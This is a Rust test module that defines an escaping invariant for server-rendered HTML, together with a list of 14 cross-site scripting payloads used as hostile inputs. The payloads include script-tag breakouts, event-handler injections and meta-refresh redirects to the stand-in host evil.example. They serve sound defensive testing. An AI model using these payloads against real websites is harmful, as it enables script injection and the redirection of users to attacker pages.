//! B7: text that a person or a program chose is never markup, in the HTML as it leaves the server. A page with hostile
//! text must have the tags and attributes of the same page with harmless text, one by one.

mod pages;
mod skeleton;
mod sources;

pub use skeleton::skeleton;

/// Texts that would open a tag, close one, or end an attribute, a comment or a script, if they were not escaped.
/// Each fits into a key's name.
pub const HOSTILE: [&str; 14] = [
    "</title><script>pwn(1)</script>",
    "</title><meta http-equiv=refresh content=0;url=//evil.example>",
    "</title><meta http-equiv=refresh content='0;url=//evil.example/?",
    "</textarea><svg onload=pwn(1)>",
    "</script><script>pwn(1)</script>",
    "<!--<script>",
    "--><img src=x onerror=pwn(1)>",
    "]]><svg/onload=pwn(1)>",
    "</style></noscript></select><svg onload=pwn(1)>",
    "\" autofocus onfocus=pwn(1) x=\"",
    "' onmouseover='pwn(1)",
    "&lt;script&gt;pwn(1)&lt;/script&gt; &amp;amp; &#60;b&#62;",
    "<svg onload=pwn(1)>",
    "<plaintext>",
];
